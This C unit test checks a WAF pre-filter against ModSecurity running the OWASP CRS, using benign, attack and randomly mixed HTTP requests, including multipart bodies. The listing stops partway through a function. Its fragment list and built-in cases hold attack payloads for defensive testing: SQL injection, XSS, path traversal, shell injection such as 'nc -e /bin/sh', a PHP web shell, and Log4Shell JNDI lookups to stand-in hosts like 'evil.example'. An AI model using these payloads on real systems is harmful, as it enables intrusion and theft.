/*
 * test_waf_pf.c - the WAF pre-filter (src/waf/prefilter.c) against
 * libmodsecurity itself, on the real OWASP CRS.
 *
 * The property checked, request by request: when waf_pf_scan() says
 * "cannot match" (false), ModSecurity with the same configuration logs no
 * rule, reports no intervention and leaves the anomaly score at 0.  Any
 * request breaking it is printed and fails the test.
 *
 * Requests: a built-in list of benign and attack requests, random ones
 * mixing attack fragments, encodings, protocol oddities and benign fields
 * in every part of a request (multipart bodies too, plain and with the
 * oddities ModSecurity's parser flags or refuses) (WAF_PF_RANDOM of them per paranoia level,
 * default 800; WAF_PF_SEED picks another sequence), and, when
 * WAF_PF_RAW names a file written by tests/waf/pf_dump_corpus.py, every
 * request of the WAF corpus.  Paranoia levels 1 and 2 (WAF_PF_LEVELS="1 2").
 *
 * Also reported: how many benign requests the pre-filter lets skip
 * ModSecurity, the build time, scan cost and database size.
 * WAF_PF_SCAN_ONLY=1 (with WAF_PF_RAW, WAF_PF_RAW_REPS) only times the scan
 * over the corpus's benign requests, for profiling, e.g.
 *   WAF_PF_SCAN_ONLY=1 WAF_PF_LEVELS=1 WAF_PF_RAW=/tmp/pfraw.bin \
 *   valgrind --tool=callgrind --collect-atstart=no --toggle-collect=waf_pf_scan \
 *   build/tests/test_waf_pf
 *
 * Without the CRS installed (/usr/share/modsecurity-crs) the test is
 * skipped.
 */
#include "unit.h"

#include "waf/prefilter.h"
#include "waf/pf_plan.h"
#include "waf/waf.h"

#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <modsecurity/intervention.h>
#include <modsecurity/modsecurity.h>
#include <modsecurity/rules_set.h>
#include <modsecurity/transaction.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define CRS_LOAD "/usr/share/modsecurity-crs/owasp-crs.load"

/* ---- requests ------------------------------------------------------------ */

struct req {
	char method[16];
	char *target;
	char protocol[16];
	struct waf_pf_hdr hdrs[64];
	size_t nhdrs;
	char *body;
	size_t body_len;
	char *store[140];	/* owned strings */
	size_t nstore;
	const char *label;
	int kind;		/* 0 benign, 1 attack, 2 random */
};

static char *keep(struct req *r, const char *s, size_t n)
{
	char *d = malloc(n + 1);
	memcpy(d, s, n);
	d[n] = '\0';
	if (r->nstore < sizeof(r->store) / sizeof(r->store[0]))
		r->store[r->nstore++] = d;
	return d;
}

static void req_free(struct req *r)
{
	for (size_t i = 0; i < r->nstore; i++)
		free(r->store[i]);
	r->nstore = 0;
}

static void hdr(struct req *r, const char *n, const char *v)
{
	if (r->nhdrs == 64)
		return;
	r->hdrs[r->nhdrs++] = (struct waf_pf_hdr){ keep(r, n, strlen(n)), strlen(n),
						   keep(r, v, strlen(v)), strlen(v) };
}

static void req_init(struct req *r, const char *method, const char *target, int kind)
{
	memset(r, 0, sizeof(*r));
	snprintf(r->method, sizeof(r->method), "%s", method);
	snprintf(r->protocol, sizeof(r->protocol), "HTTP/1.1");
	r->target = keep(r, target, strlen(target));
	r->kind = kind;
}

static void browser(struct req *r)
{
	hdr(r, "Host", "shop.example.com");
	hdr(r, "User-Agent", "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0");
	hdr(r, "Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8");
	hdr(r, "Accept-Language", "en-US,en;q=0.5");
	hdr(r, "Accept-Encoding", "gzip, deflate, br");
	hdr(r, "Connection", "keep-alive");
}

static void body(struct req *r, const char *ctype, const char *b)
{
	char n[32];
	r->body_len = strlen(b);
	r->body = keep(r, b, r->body_len);
	if (ctype)
		hdr(r, "Content-Type", ctype);
	snprintf(n, sizeof(n), "%zu", r->body_len);
	hdr(r, "Content-Length", n);
}

static struct waf_pf_req as_pf(const struct req *r)
{
	return (struct waf_pf_req){
		.method = r->method, .method_len = strlen(r->method),
		.target = r->target, .target_len = strlen(r->target),
		.protocol = r->protocol, .protocol_len = strlen(r->protocol),
		.hdrs = r->hdrs, .nhdrs = r->nhdrs,
		.body = r->body, .body_len = r->body_len,
	};
}

/* ---- ModSecurity --------------------------------------------------------- */

static char msc_ids[512];
static int msc_logged;
static bool msc_blocked;	/* the last msc_run(): a disruptive intervention */

static void log_cb(void *data, const void *msg)
{
	const char *m = msg, *p;
	msc_logged++;
	if (m && (p = strstr(m, "[id \"")) && strlen(msc_ids) < sizeof(msc_ids) - 16) {
		p += 5;
		size_t n = strcspn(p, "\"");
		if (n > 10)
			n = 10;
		strncat(msc_ids, p, n);
		strcat(msc_ids, " ");
	}
}

/* true when ModSecurity logged a rule or intervened */
static bool msc_run(ModSecurity *ms, RulesSet *rules, const struct req *r)
{
	Transaction *t = msc_new_transaction(ms, rules, NULL);
	ModSecurityIntervention it = { .status = 200 };
	bool hit = false;

	msc_ids[0] = '\0';
	msc_logged = 0;
	msc_blocked = false;
	msc_process_connection(t, "192.0.2.10", 40000, "192.0.2.1", 80);
	const char *ver = strncmp(r->protocol, "HTTP/", 5) ? r->protocol : r->protocol + 5;
	msc_process_uri(t, r->target, r->method, ver);
	for (size_t i = 0; i < r->nhdrs; i++)
		msc_add_n_request_header(t, (const unsigned char *)r->hdrs[i].name, r->hdrs[i].name_len,
					 (const unsigned char *)r->hdrs[i].value, r->hdrs[i].value_len);
	msc_process_request_headers(t);
	if (msc_intervention(t, &it)) {
		hit = true;
		msc_blocked |= it.disruptive != 0;
	}
	free(it.url);
	free(it.log);
	it = (ModSecurityIntervention){ .status = 200 };
	if (r->body_len)
		msc_append_request_body(t, (const unsigned char *)r->body, r->body_len);
	msc_process_request_body(t);
	if (msc_intervention(t, &it)) {
		hit = true;
		msc_blocked |= it.disruptive != 0;
	}
	free(it.url);
	free(it.log);
	msc_process_logging(t);
	msc_transaction_cleanup(t);
	return hit || msc_logged > 0;
}

/* ---- generated requests -------------------------------------------------- */

static const char *const frags[] = {
	"' OR 1=1--", "1 union select password from users", "admin'--", "1;DROP TABLE x",
	"<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "javascript:alert(1)",
	"../../../../etc/passwd", "..\\..\\windows\\win.ini", "/etc/shadow", ";cat /etc/passwd",
	"| id", "$(whoami)", "`uname -a`", "<?php system($_GET['c']); ?>", "php://filter/resource=x",
	"${jndi:ldap://x/a}", "java.lang.Runtime", "require('child_process').exec('id')",
	"http://169.254.169.254/latest/", "file:///etc/passwd", "%00", "%0d%0aSet-Cookie:x=1",
	"sleep(5)", "benchmark(1000000,md5(1))", "' and '1'='1", "\" onmouseover=\"alert(1)",
	"{{7*7}}", "<svg/onload=alert(1)>", "eval(String.fromCharCode(97))", "..%2f..%2fetc%2fpasswd",
	"%27%20or%201%3d1", "&#x3c;script&#x3e;", "\\x3cscript\\x3e", "/*!50000select*/",
	"select", "union", "or", "--", "#", "/*", "*/", "'", "\"", "<", ">", "(", ")", ";", "|",
	"&&", "$", "`", "\\", "%", "%u0027", "%c0%af", "\xc3\xa9t\xc3\xa9", "\xff\xfe",
	"hello", "world", "john.doe@example.com", "2024-01-01", "42", "true", "q=shoes",
	"The quick brown fox", "O'Brien", "a+b", "50% off", "C:\\Users", "x=1&y=2", "name=bob",
	"application/json", "Mozilla/5.0", "/index.html", "index.php", "cmd.exe", "wget http://x",
	"nc -e /bin/sh", "onload=", "document.cookie", "alert(", "<a href=", "base64,PHNjcmlwdD4=",
	"WAITFOR DELAY '0:0:5'", "char(0x41)", "0x414243", "@@version", "information_schema",
	"/bin/bash", "powershell", ".htaccess", "web.config", "/proc/self/environ", "~root",
	"ZXZhbCgxKQ==", "bmV3IEZ1bmN0aW9uKCJ4Iik=", "X19wcm90b19f", "eyJfJCRORF9GVU5DJCRfIjoxfQ",
	"PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "J09SIDE9MQ==", "aGVsbG8=", "dGhpcy5jb25zdHJ1Y3Rvcg",
	"&lt;script&gt;", "&#60;svg onload=alert(1)&#62;", "\\u003cscript", "\\x3c", "\\74",
	"\\3c script\\3e", "\\00003cscript", "\\ff1cscript", "\\\nalert", "\\0", "\\6a avascript:",
	"\xe2\x80\xa8", "\xef\xbc\x9cscript\xef\xbc\x9e", "\xc0\xae\xc0\xae/", "\xf0\x9f\x98\x80",
	"\xe0\x80\xae", "\xed\xa0\x80", "\xf5\x80\x80\x80", "\xc3", "a\xc3(", "\xe2\x82",
	"<!--", "-->", "<![CDATA[", "\r\n", "\t", " ", "+", "=", "&", "?", "/", ".", "..",
};
#define NFRAGS (sizeof(frags) / sizeof(frags[0]))

static uint64_t rng = 88172645463325252ull;

static unsigned rnd(unsigned n)
{
	rng ^= rng << 13;
	rng ^= rng >> 7;
	rng ^= rng << 17;
	return (unsigned)(rng % n);
}

static void pct_encode(char *out, size_t cap, const char *s, int mode)
{
	size_t o = 0;
	for (; *s && o + 8 < cap; s++) {
		unsigned char c = (unsigned char)*s;
		if (mode == 1 && !isalnum(c))
			o += (size_t)snprintf(out + o, cap - o, "%%%02X", c);
		else if (mode == 2 && c == ' ')
			out[o++] = '+';
		else if (mode == 3 && !isalnum(c))
			o += (size_t)snprintf(out + o, cap - o, "%%25%02X", c);
		else if (mode == 4 && !isalnum(c) && c < 0x80)
			o += (size_t)snprintf(out + o, cap - o, "%%u00%02X", c);
		else if (c == '&' || c == '#' || c == ' ' || c == '%' || c < 0x20 || c >= 0x7f)
			o += (size_t)snprintf(out + o, cap - o, "%%%02X", c);
		else
			out[o++] = (char)c;
	}
	out[o] = '\0';
}

/* A random mix of 1..3 fragments */
static void payload(char *out, size_t cap)
{
	out[0] = '\0';
	int n = 1 + (int)rnd(3);
	for (int i = 0; i < n; i++) {
		if (rnd(4) == 0)
			strncat(out, "x", cap - strlen(out) - 1);
		strncat(out, frags[rnd(NFRAGS)], cap - strlen(out) - 1);
	}
}

static const char *pick(const char *const *a, size_t n)
{
	return a[rnd((unsigned)n)];
}
#define PICK(a) pick(a, sizeof(a) / sizeof(a[0]))

/* A fragment or a benign word, encoded one way or another */
static void piece(char *out, size_t cap, bool attack)
{
	static const char *const words[] = { "shoes", "red", "42", "alice", "en-US", "2024", "x",
					     "", "a b", "main.css", "v1", "true" };
	char p[512];
	if (attack)
		payload(p, sizeof(p));
	else
		snprintf(p, sizeof(p), "%s", PICK(words));
	if (rnd(3) == 0)
		snprintf(out, cap, "%s", p);
	else
		pct_encode(out, cap, p, (int)rnd(5));
}

static void multipart(struct req *r, bool odd, int *attacks);

static void gen_random(struct req *r)
{
	static const char *const methods[] = { "GET", "GET", "GET", "GET", "POST", "POST", "PUT",
					       "HEAD", "DELETE", "OPTIONS", "PATCH", "TRACE", "CONNECT",
					       "PROPFIND", "get", "FOO" };
	static const char *const protos[] = { "HTTP/1.1", "HTTP/1.1", "HTTP/1.1", "HTTP/1.0",
					      "HTTP/2.0", "HTTP/2", "HTTP/0.9", "HTTP/3.0" };
	static const char *const paths[] = { "/", "/index.html", "/a/b/c", "/api/v1/items",
					     "/p.php", "/x.bak", "/backup.sql", "/.env", "/a/./b",
					     "/a//b", "/a/../b", "/dl\\x", "/%2e%2e/x", "/static/app.js",
					     "/web.config", "/x.asp;.jpg", "/%3F/x", "/a%00b" };
	static const char *const ctypes[] = { "application/x-www-form-urlencoded", "application/json",
					      "text/plain", "application/xml", "application/json; charset=utf-8",
					      "application/x-www-form-urlencoded; charset=UTF-8",
					      "application/octet-stream", "text/html; charset=big5",
					      "application/JSON", "foo/bar" };
	static const char *const hnames[] = { "X-Custom", "Referer", "User-Agent", "Accept",
					      "X-Forwarded-For", "Cookie", "Accept-Encoding", "Range",
					      "Proxy", "Lock-Token", "Content-Range", "If", "Expect",
					      "Via", "Origin", "Accept-Charset", "Cache-Control", "Pragma",
					      "Content-Encoding", "Transfer-Encoding", "Connection",
					      "X-Up-Devcap-Post-Charset", "Request-Range", "Authorization" };
	char t[4096], a[2048], b[2048];
	bool odd = rnd(2);		/* protocol oddities too */
	int attacks = odd ? (int)rnd(4) : (int)rnd(3) - 1;	/* attack pieces */

	/* the target */
	size_t o = (size_t)snprintf(t, sizeof(t), "%s", odd ? PICK(paths) : paths[rnd(4)]);
	if (rnd(4) == 0) {
		piece(a, sizeof(a), attacks-- > 0);
		o += (size_t)snprintf(t + o, sizeof(t) - o, "/%s", a);
	}
	if (rnd(4) == 0)
		o = (size_t)snprintf(t, sizeof(t), "http://shop.example.com%.1500s", (snprintf(b, sizeof(b), "%.1500s", t), b));
	int nargs = (int)rnd(4);
	for (int i = 0; i < nargs && o + 600 < sizeof(t); i++) {
		piece(a, sizeof(a), attacks > 0 && rnd(2) ? (attacks--, true) : false);
		piece(b, sizeof(b), attacks > 0 && rnd(3) == 0 ? (attacks--, true) : false);
		o += (size_t)snprintf(t + o, sizeof(t) - o, "%c%.300s%s%.300s", i ? '&' : '?',
				      rnd(3) ? (i == 0 ? "q" : "page") : b, rnd(6) ? "=" : "", a);
	}
	if (rnd(15) == 0)
		o += (size_t)snprintf(t + o, sizeof(t) - o, "#frag%s", rnd(2) ? "<x>" : "");
	req_init(r, odd ? PICK(methods) : methods[rnd(5)], t, 2);
	r->label = "random";
	snprintf(r->protocol, sizeof(r->protocol), "%s", rnd(4) || !odd ? "HTTP/1.1" : PICK(protos));

	/* headers */
	if (rnd(12) || !odd)
		hdr(r, "Host", rnd(10) ? "shop.example.com" : (rnd(2) ? "10.0.0.1" : "shop.example.com:8080"));
	if (rnd(12) == 0 && odd)
		hdr(r, "Host", "other.example.com");
	if (rnd(8) || !odd)
		hdr(r, "User-Agent", rnd(8) ? "Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0"
				      : (rnd(2) ? "" : "curl/8.5.0"));
	if (rnd(8) || !odd)
		hdr(r, "Accept", rnd(8) || !odd ? "text/html,application/xhtml+xml,*/*;q=0.8" : "");
	if (rnd(3))
		hdr(r, "Accept-Language", "en-US,en;q=0.5");
	int nh = (int)rnd(3);
	for (int i = 0; i < nh; i++) {
		const char *n = odd ? PICK(hnames) : hnames[rnd(6)];
		piece(a, sizeof(a), attacks > 0 && rnd(2) ? (attacks--, true) : false);
		if (!strcmp(n, "Cookie")) {
			piece(b, sizeof(b), attacks > 0 && rnd(2) ? (attacks--, true) : false);
			char c[4200];
			snprintf(c, sizeof(c), "%.1000s=%.1000s; %s; __utma=%.1000s", rnd(2) ? "sid" : b, a,
				 rnd(2) ? "theme=dark" : "=x", rnd(2) ? "1.2.3" : a);
			hdr(r, n, c);
		} else if (!strcmp(n, "Range") || !strcmp(n, "Request-Range")) {
			hdr(r, n, rnd(2) ? "bytes=0-100" : (rnd(2) ? "bytes=10-5" : "bytes=0-1,2-3,4-5,6-7,8-9,10-11"));
		} else {
			hdr(r, n, a);
		}
	}
	if (rnd(20) == 0 && odd) {
		piece(a, sizeof(a), attacks > 0);
		for (char *p = a; *p; p++)
			if (*p == ':' || *p == '\r' || *p == '\n')
				*p = '-';
		hdr(r, a[0] ? a : "X-Empty", "1");
	}

	/* body */
	int kind = (int)rnd(6);
	if (rnd(5) == 0) {
		multipart(r, odd, &attacks);
	} else if (kind >= 3 || (!strcmp(r->method, "POST") && rnd(2))) {
		const char *ct = rnd(8) ? (odd ? PICK(ctypes) : ctypes[rnd(2)]) : NULL;
		piece(a, sizeof(a), attacks > 0 ? (attacks--, true) : false);
		piece(b, sizeof(b), false);
		char bd[4600];
		if (ct && strstr(ct, "json") && rnd(6)) {
			/* JSON with the payload as a string (escaped) or a key */
			char js[2200];
			size_t q = 0;
			for (const char *p = a; *p && q + 8 < sizeof(js); p++) {
				if (*p == '"' || *p == '\\')
					js[q++] = '\\', js[q++] = *p;
				else if ((unsigned char)*p < 0x20)
					q += (size_t)snprintf(js + q, sizeof(js) - q, "\\u%04x", *p);
				else
					js[q++] = *p;
			}
			js[q] = '\0';
			switch (rnd(4)) {
			case 0:
				snprintf(bd, sizeof(bd), "{\"name\":\"%s\",\"n\":[1,{\"k\":true}],\"z\":null}", js);
				break;
			case 1:
				snprintf(bd, sizeof(bd), "{\"%s\":1,\"a\":{\"b\":[\"%s\",2.5e3]}}", js, js);
				break;
			case 2:
				snprintf(bd, sizeof(bd), "[\"%s\",[],{},{\"\":\"%s\"}]", js, js);
				break;
			default:
				snprintf(bd, sizeof(bd), "{\"a\":\"%s\"", js);	/* broken */
			}
		} else if (ct && strstr(ct, "urlencoded")) {
			snprintf(bd, sizeof(bd), "user=%.1000s&%.1000s=%.1000s&x", b, rnd(3) ? "comment" : a, a);
		} else {
			snprintf(bd, sizeof(bd), "%.2000s", a);
		}
		if (rnd(10) == 0 && ct)
			hdr(r, "Content-Type", ct), r->body_len = strlen(bd), r->body = keep(r, bd, r->body_len);
		else
			body(r, ct, bd);
	} else if (rnd(10) == 0 && odd) {
		hdr(r, "Content-Length", rnd(2) ? "0" : "abc");
	}
	if (rnd(15) == 0 && odd)
		hdr(r, "Transfer-Encoding", "chunked");
}

/* A multipart/form-data body: mostly the plain shape browsers send, with
 * attack pieces in names, filenames, values and part headers, and now and
 * then one of the oddities Multipart flags or refuses (the pre-filter must
 * then agree with ModSecurity or say "might"). */
static void multipart(struct req *r, bool odd, int *attacks)
{
	static const char *const bds[] = { "----WebKitFormBoundary7MA4YWxkTrZu0gW",
					   "---------------------------9051914041544843365972754266",
					   "xYzZY", "b'()+_,-./:=?", "a b" };
	static const char *const cts[] = { "image/png", "text/plain", "application/octet-stream",
					   "text/x-php", "image/png; charset=utf-7", "text/html", "" };
	static const char *const oddities[] = {
		"lf", "quoted", "nofinal", "before", "after", "fold", "emptyfn", "squote", "space-bd",
		"dup", "extrahdr", "nocd", "cte", "charset", "startbd", "ws", "crlfval", "lfval",
		"bs", "filename*", "nosemi", "bdlast" };
	const char *bd = rnd(6) ? bds[rnd(3)] : PICK(bds);
	const char *o = odd && rnd(2) ? PICK(oddities) : "";
	char a[2200], b[2200], out[12000], ct[256];
	size_t n = 0;
	const char *eol = strcmp(o, "lf") ? "\r\n" : "\n";

	if (!strcmp(o, "quoted"))
		snprintf(ct, sizeof(ct), "multipart/form-data; boundary=\"%s\"", bd);
	else if (!strcmp(o, "nosemi"))
		snprintf(ct, sizeof(ct), "multipart/form-data boundary=%s", bd);
	else if (!strcmp(o, "bdlast"))
		snprintf(ct, sizeof(ct), "multipart/form-data; boundary=%s; charset=utf-8", bd);
	else if (!strcmp(o, "space-bd"))
		snprintf(ct, sizeof(ct), "multipart/form-data; boundary= %s", bd);
	else
		snprintf(ct, sizeof(ct), "%s; boundary=%s", rnd(8) ? "multipart/form-data" : "Multipart/Form-Data", bd);
	if (!strcmp(o, "before"))
		n += (size_t)snprintf(out + n, sizeof(out) - n, "preamble%s", eol);
	int parts = 1 + (int)rnd(3);
	for (int i = 0; i < parts && n + 5000 < sizeof(out); i++) {
		bool file = rnd(3) == 0;
		piece(a, sizeof(a), *attacks > 0 && rnd(3) == 0 ? ((*attacks)--, true) : false);
		piece(b, sizeof(b), *attacks > 0 && rnd(3) == 0 ? ((*attacks)--, true) : false);
		for (char *p = a; *p; p++)
			if (*p == '"' || *p == '\r' || *p == '\n')
				*p = '_';
		if (!strcmp(o, "bs") && i == 0)
			strcat(a, "\\\\x");
		n += (size_t)snprintf(out + n, sizeof(out) - n, "--%s%s", bd, eol);
		if (strcmp(o, "nocd") || i) {
			const char *nm = rnd(3) ? (i == 0 ? "comment" : "file") : (a[0] ? a : "x");
			if (!strcmp(o, "charset") && i == 0)
				nm = "_charset_";
			n += (size_t)snprintf(out + n, sizeof(out) - n, "Content-Disposition: form-data; name=%s%.300s%s",
					      !strcmp(o, "squote") && i == 0 ? "'" : "\"", nm,
					      !strcmp(o, "squote") && i == 0 ? "'" : "\"");
			if (file || (!strcmp(o, "emptyfn") && i == 0))
				n += (size_t)snprintf(out + n, sizeof(out) - n, "; %s=\"%.300s\"",
						      !strcmp(o, "filename*") ? "filename*" : "filename",
						      !strcmp(o, "emptyfn") ? "" : (rnd(2) ? "photo.png" : (a[0] ? a : "a.php")));
			n += (size_t)snprintf(out + n, sizeof(out) - n, "%s", eol);
			if (!strcmp(o, "fold") && i == 0)
				n += (size_t)snprintf(out + n, sizeof(out) - n, " continued%s", eol);
		}
		if (file || rnd(4) == 0)
			n += (size_t)snprintf(out + n, sizeof(out) - n, "Content-Type: %s%s",
					      rnd(4) ? cts[rnd(3)] : PICK(cts), eol);
		if (!strcmp(o, "dup") && i == 0)
			n += (size_t)snprintf(out + n, sizeof(out) - n, "Content-Type: text/plain%s", eol);
		if (!strcmp(o, "extrahdr") && i == 0)
			n += (size_t)snprintf(out + n, sizeof(out) - n, "X-Note: %.200s%s", b, eol);
		if (!strcmp(o, "cte") && i == 0)
			n += (size_t)snprintf(out + n, sizeof(out) - n, "Content-Transfer-Encoding: base64%s", eol);
		n += (size_t)snprintf(out + n, sizeof(out) - n, "%s", eol);
		if (!strcmp(o, "startbd") && i == 0)
			n += (size_t)snprintf(out + n, sizeof(out) - n, "--%s", bd);
		else if (!strcmp(o, "ws") && i == 0)
			n += (size_t)snprintf(out + n, sizeof(out) - n, "x%s-- %s%s", eol, bd, eol);
		/* the content, sometimes on several lines */
		size_t bl = strlen(b);
		if ((!strcmp(o, "crlfval") || !strcmp(o, "lfval") || rnd(5) == 0) && bl > 2)
			n += (size_t)snprintf(out + n, sizeof(out) - n, "%.*s%s%s", (int)(bl / 2), b,
					      strcmp(o, "lfval") ? "\r\n" : "\n", b + bl / 2);
		else
			n += (size_t)snprintf(out + n, sizeof(out) - n, "%s", b);
		n += (size_t)snprintf(out + n, sizeof(out) - n, "%s", eol);
	}
	if (strcmp(o, "nofinal"))
		n += (size_t)snprintf(out + n, sizeof(out) - n, "--%s--%s", bd, rnd(4) ? eol : "");
	if (!strcmp(o, "after"))
		n += (size_t)snprintf(out + n, sizeof(out) - n, "trailing");
	body(r, ct, out);
}

/* Built-in requests: 0 benign, 1 attack */
static size_t builtin(struct req *r, size_t i)
{
	switch (i) {
	case 0: req_init(r, "GET", "/", 0); browser(r); return 1;
	case 1: req_init(r, "GET", "/products/shoes?color=red&size=42", 0); browser(r); return 1;
	case 2: req_init(r, "GET", "/static/app.3f2a1.js", 0); browser(r);
		hdr(r, "Referer", "https://shop.example.com/"); return 1;
	case 3: req_init(r, "GET", "/search?q=running+shoes&sort=price_asc", 0); browser(r);
		hdr(r, "Cookie", "session=8f14e45fceea167a5a36dedd4bea2543; theme=dark"); return 1;
	case 4: req_init(r, "POST", "/api/v1/orders", 0); browser(r);
		body(r, "application/json", "{\"item\":1234,\"qty\":2,\"note\":\"leave at door\",\"tags\":[\"gift\",\"fast\"]}");
		return 1;
	case 5: req_init(r, "POST", "/login", 0); browser(r);
		body(r, "application/x-www-form-urlencoded", "username=alice&password=correct+horse&remember=1");
		return 1;
	case 6: req_init(r, "GET", "/images/logo.png", 0); browser(r); return 1;
	case 7: req_init(r, "GET", "/api/v1/items?id=42", 0);
		hdr(r, "Host", "api.example.com"); hdr(r, "User-Agent", "curl/8.5.0");
		hdr(r, "Accept", "*/*"); return 1;
	case 8: req_init(r, "GET", "/search?q=%27+OR+1%3D1--", 1); browser(r); return 1;
	case 9: req_init(r, "GET", "/?x=<script>alert(1)</script>", 1); browser(r); return 1;
	case 10: req_init(r, "GET", "/download?file=../../../../etc/passwd", 1); browser(r); return 1;
	case 11: req_init(r, "POST", "/api/v1/orders", 1); browser(r);
		body(r, "application/json", "{\"item\":\"1 union select password from users--\"}");
		return 1;
	case 12: req_init(r, "GET", "/", 1); browser(r);
		hdr(r, "User-Agent", "sqlmap/1.7"); return 1;
	case 13: req_init(r, "GET", "/", 1); hdr(r, "User-Agent", "x"); return 1;
	case 14: req_init(r, "GET", "/index.php?cmd=;cat%20/etc/passwd", 1); browser(r); return 1;
	case 15: req_init(r, "GET", "/", 1); browser(r);
		hdr(r, "X-Api-Version", "${jndi:ldap://evil/a}"); return 1;
	case 16: req_init(r, "GET", "/backup.sql", 1); browser(r); return 1;
	case 17: req_init(r, "GET", "/", 1); browser(r); hdr(r, "Proxy", "x"); return 1;
	case 18: req_init(r, "POST", "/login", 1); browser(r);
		body(r, "application/x-www-form-urlencoded", "username=admin%27--&password=x"); return 1;
	case 19: req_init(r, "GET", "/api", 0); browser(r);
		hdr(r, "Authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc"); return 1;
	/* multipart: an upload, then values ModSecurity reads with their
	 * line ends removed ("<scr" CRLF "ipt>" is "<script>" to it) */
	case 20: req_init(r, "POST", "/upload", 0); browser(r);
		body(r, "multipart/form-data; boundary=----WebKitFormBoundaryAbC123",
		     "------WebKitFormBoundaryAbC123\r\n"
		     "Content-Disposition: form-data; name=\"title\"\r\n\r\nMy holiday\r\nphotos\r\n"
		     "------WebKitFormBoundaryAbC123\r\n"
		     "Content-Disposition: form-data; name=\"photo\"; filename=\"beach.png\"\r\n"
		     "Content-Type: image/png\r\n\r\n\x89PNG\r\n\x1a\nIHDR\r\n"
		     "------WebKitFormBoundaryAbC123--\r\n");
		return 1;
	case 21: req_init(r, "POST", "/comment", 1); browser(r);
		body(r, "multipart/form-data; boundary=xYzZY",
		     "--xYzZY\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\n"
		     "<scr\r\nipt>alert(document.cookie)</scr\r\nipt>\r\n--xYzZY--\r\n");
		return 1;
	case 22: req_init(r, "POST", "/upload", 1); browser(r);
		body(r, "multipart/form-data; boundary=xYzZY",
		     "--xYzZY\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n"
		     "Content-Type: text/plain\r\n\r\nhello\r\n--xYzZY--\r\n");
		return 1;
	case 24: req_init(r, "GET", "/", 1); browser(r);
		hdr(r, "X-Api-Version", "${${lower:j}ndi:ldap://evil.example/x}"); return 1;
	case 23: req_init(r, "POST", "/upload", 1); browser(r);
		body(r, "multipart/form-data; boundary=xYzZY",
		     "--xYzZY\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n"
		     "Content-Type: text/plain; charset=utf-7\r\n\r\nhello\r\n--xYzZY--\r\n");
		return 1;
	default:
		return 0;
	}
}

/* ---- raw requests (WAF_PF_RAW) ------------------------------------------- */

/* "#<kind> <label>\n<len>\n<bytes>\n" records; kind "attack" or "benign" */
static bool parse_raw(struct req *r, const char *kind, const char *label, const char *b, size_t n)
{
	const char *e = memmem(b, n, "\r\n\r\n", 4);
	if (!e)
		return false;
	const char *le = memmem(b, (size_t)(e - b) + 2, "\r\n", 2);
	char line[8192];
	size_t ll = (size_t)(le - b);
	if (ll >= sizeof(line))
		return false;
	memcpy(line, b, ll);
	line[ll] = '\0';
	char *s1 = strchr(line, ' ');
	char *s2 = s1 ? strrchr(line, ' ') : NULL;
	if (!s1 || s2 == s1 || memchr(line, '\0', ll) != NULL)
		return false;
	*s1 = '\0';
	*s2 = '\0';
	req_init(r, line, s1 + 1, !strcmp(kind, "attack"));
	snprintf(r->protocol, sizeof(r->protocol), "%s", s2 + 1);
	r->label = label;
	const char *p = le + 2;
	size_t clen = SIZE_MAX;
	while (p < e + 2) {
		const char *nl = memmem(p, (size_t)(e + 2 - p), "\r\n", 2);
		const char *c = memchr(p, ':', (size_t)(nl - p));
		if (!c)
			return false;
		const char *v = c + 1;
		while (v < nl && (*v == ' ' || *v == '\t'))
			v++;
		const char *ve = nl;
		while (ve > v && (ve[-1] == ' ' || ve[-1] == '\t'))
			ve--;
		if (r->nhdrs == 64)
			return false;
		r->hdrs[r->nhdrs++] = (struct waf_pf_hdr){ keep(r, p, (size_t)(c - p)), (size_t)(c - p),
							   keep(r, v, (size_t)(ve - v)), (size_t)(ve - v) };
		if ((size_t)(c - p) == 14 && !strncasecmp(p, "content-length", 14))
			clen = strtoul(v, NULL, 10);
		p = nl + 2;
	}
	const char *bd = e + 4;
	size_t bl = n - (size_t)(bd - b);
	if (clen != SIZE_MAX && clen < bl)
		bl = clen;
	if (bl) {
		r->body = keep(r, bd, bl);
		r->body_len = bl;
	}
	return true;
}

/* ---- the check ----------------------------------------------------------- */

struct stats {
	size_t n, msc_hit, pf_skip, benign, benign_skip, attack, attack_msc, violations;
	size_t rnd_clean, rnd_clean_skip, benign_clean, benign_clean_skip;
	size_t attack_pf, benign_fp, benign_fp_pf;	/* detections with the pre-filter in front */
	size_t mp, mp_skip, mp_hit;	/* multipart bodies: all, skipped, ModSecurity matched */
	/* "decided: pass" (waf_pf_passed) by the pre-filter of the rule set
	 * without the oracle's rule 1999001 (which reads the score): requests,
	 * of which ModSecurity matched something, and blocked (violations) */
	size_t passed, passed_hit, pass_violations;
};

static void dump(const struct req *r)
{
	fprintf(stderr, "    %s %s %s\n", r->method, r->target, r->protocol);
	for (size_t i = 0; i < r->nhdrs; i++)
		fprintf(stderr, "    %.*s: %.*s\n", (int)r->hdrs[i].name_len, r->hdrs[i].name,
			(int)r->hdrs[i].value_len, r->hdrs[i].value);
	if (r->body_len)
		fprintf(stderr, "    body: %.*s\n", (int)(r->body_len > 400 ? 400 : r->body_len), r->body);
}

/* the pre-filter of the rule set without 1999001, for "decided: pass" */
static struct waf_pf *pass_pf;
static struct waf_pf_scratch *pass_sc;

static void check(struct waf_pf *pf, struct waf_pf_scratch *sc, ModSecurity *ms, RulesSet *rules,
		  const struct req *r, struct stats *st, int pl)
{
	struct waf_pf_req q = as_pf(r);
	bool might = waf_pf_scan(pf, sc, &q);
	bool passed = pass_sc && waf_pf_scan(pass_pf, pass_sc, &q) && waf_pf_passed(pass_sc);
	bool hit = msc_run(ms, rules, r);

	if (passed) {
		st->passed++;
		st->passed_hit += hit;
		if (getenv("WAF_PF_WHY"))
			fprintf(stderr, "  PL%d passed (%s, ModSecurity [%s]) %s %s\n", pl,
